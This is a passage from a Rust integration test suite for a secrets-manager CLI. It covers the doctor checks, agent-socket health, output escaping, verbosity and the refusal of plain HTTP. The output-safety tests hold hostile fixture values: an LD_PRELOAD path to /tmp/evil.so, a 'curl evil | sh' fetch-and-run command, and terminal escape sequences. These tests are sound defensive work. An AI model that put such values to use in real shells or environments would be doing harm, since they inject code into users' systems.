        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let (code, report, stderr) = doctor(vault.sy().env("SY_CREDENTIALS_FILE", &file));
    assert_eq!(code, Some(1), "{report}");
    assert_eq!(status(&report, "server"), "fail", "{report}");
    assert_eq!(status(&report, "token"), "skip", "{report}");
    #[cfg(unix)]
    assert_eq!(status(&report, "credentials"), "fail", "{report}");
    assert_clean(&format!("{report}{stderr}"), &[&secret]);

    // No credentials at all.
    let (code, report, _) = doctor(&mut vault.sy());
    assert_eq!(code, Some(1));
    assert_eq!(status(&report, "credentials"), "fail");
}

/// A one-connection-at-a-time HTTP server on a Unix socket answering `status` to every request.
#[cfg(unix)]
fn agent(path: &std::path::Path, status: &'static str) {
    let listener = std::os::unix::net::UnixListener::bind(path).unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let body = r#"{"status":"ok"}"#;
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
}

#[cfg(unix)]
#[test]
fn doctor_checks_the_agent_socket_when_one_is_configured() {
    let vault = Vault::start();
    let client = vault.client();
    let healthy = vault.path("agent.sock");
    agent(&healthy, "200 OK");
    let (code, report, _) = doctor(client.sy().env("SY_AGENT_SOCKET", &healthy));
    assert_eq!(code, Some(0), "{report}");
    assert_eq!(status(&report, "agent"), "ok");

    let sick = vault.path("sick.sock");
    agent(&sick, "503 Service Unavailable");
    let ran = run(client.sy().arg("doctor").arg("--agent").arg(&sick), None);
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(ran.stdout.contains("HTTP 503"), "{ran:?}");

    let missing = vault.path("nobody.sock");
    let ran = run(
        client.sy().env("SY_AGENT_SOCKET", &missing).arg("doctor"),
        None,
    );
    assert_eq!(ran.code, Some(1), "{ran:?}");
    assert!(
        ran.stdout.contains("sy agent"),
        "the fix names the agent: {ran:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// output safety

#[test]
fn env_output_refuses_names_that_change_a_shell_unless_prefixed() {
    let vault = Vault::start();
    let client = vault.client();
    let mut hostile = RecordPayload::new("Hostile");
    hostile.fields.set("LD_PRELOAD", "/tmp/evil.so");
    hostile.fields.set("prompt-command", "curl evil | sh");
    hostile.fields.set("token", "t0k3n");
    let uid = vault
        .admin
        .create_secret(vault.production, &hostile)
        .unwrap();
    let ran = client
        .run(&["secret", "get", uid.as_str(), "--format", "env"])
        .fails(1, &["/tmp/evil.so", "curl evil", "t0k3n"]);
    assert!(ran.stderr.contains("--prefix"), "{ran:?}");
    let ran = client.ok(&[
        "secret",
        "get",
        uid.as_str(),
        "--format",
        "env",
        "--prefix",
        "APP_",
    ]);
    assert_eq!(
        ran.stdout,
        "APP_LD_PRELOAD='/tmp/evil.so'\nAPP_PROMPT_COMMAND='curl evil | sh'\nAPP_TOKEN='t0k3n'\n"
    );
    // A prefix that makes a loader variable itself is refused.
    client
        .run(&[
            "secret",
            "get",
            uid.as_str(),
            "--format",
            "env",
            "--prefix",
            "LD_",
        ])
        .fails(1, &[]);
    client
        .run(&[
            "secret",
            "get",
            uid.as_str(),
            "--format",
            "env",
            "--prefix",
            "9x",
        ])
        .fails(2, &[]);
    client
        .run(&["secret", "get", uid.as_str(), "--prefix", "APP_"])
        .fails(2, &[]);
}

#[test]
fn control_characters_in_titles_and_names_are_escaped() {
    let vault = Vault::start();
    let client = vault.client();
    let mut evil = RecordPayload::new("evil\x1b]0;pwned\x07\x1b[2K\rDatabase");
    evil.fields.set("na\x1b[31mme", "v");
    let uid = vault.admin.create_secret(vault.production, &evil).unwrap();
    let list = client.ok(&["secret", "list"]);
    assert!(
        !list.stdout.contains('\x1b') && !list.stdout.contains('\x07'),
        "{list:?}"
    );
    assert!(
        list.stdout
            .contains(r"evil\x1b]0;pwned\x07\x1b[2K\rDatabase"),
        "{list:?}"
    );
    let get = client.ok(&["secret", "get", uid.as_str()]);
    assert!(!get.stdout.contains('\x1b'), "{get:?}");
    assert!(get.stdout.contains(r"field/na\x1b[31mme"), "{get:?}");
    // JSON keeps the exact text, escaped as JSON does.
    let json = parse_json(
        &client
            .ok(&["secret", "get", uid.as_str(), "--format", "json"])
            .stdout,
    );
    assert_eq!(json["title"], "evil\x1b]0;pwned\x07\x1b[2K\rDatabase");
    // And errors escape what they quote.
    let ran = client
        .run(&["read", "sy://Production/x\x1bcy/title"])
        .fails(1, &[]);
    assert!(!ran.stderr.contains('\x1b'), "{ran:?}");
}

// ---------------------------------------------------------------------------------------------
// basics

#[test]
fn verbosity_has_two_levels_and_never_shows_values() {
    let vault = Vault::start();
    let client = vault.client();
    let one = client.ok(&["-v", "read", "sy://Production/Database/field/password"]);
    assert!(one.stderr.contains("status=200"), "{one:?}");
    assert!(!one.stderr.contains("signed a new bearer token"), "{one:?}");
    let two = client.ok(&["-vv", "read", "sy://Production/Database/field/password"]);
    assert!(two.stderr.contains("signed a new bearer token"), "{two:?}");
    let secret = client.credentials_json()["client_secret"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_clean(&two.stderr, &[&secret, "Bearer", "eyJ"]);
}

#[test]
fn plain_http_elsewhere_than_loopback_is_refused_in_plain_words() {
    let vault = Vault::start();
    let client = vault.client();
    let ran = client
        .run(&["--server", "http://192.0.2.1:8200", "secret", "list"])
        .fails(2, &[]);
    assert!(ran.stderr.contains("only to a loopback address"), "{ran:?}");
    assert!(ran.stderr.contains("https://"), "{ran:?}");
}
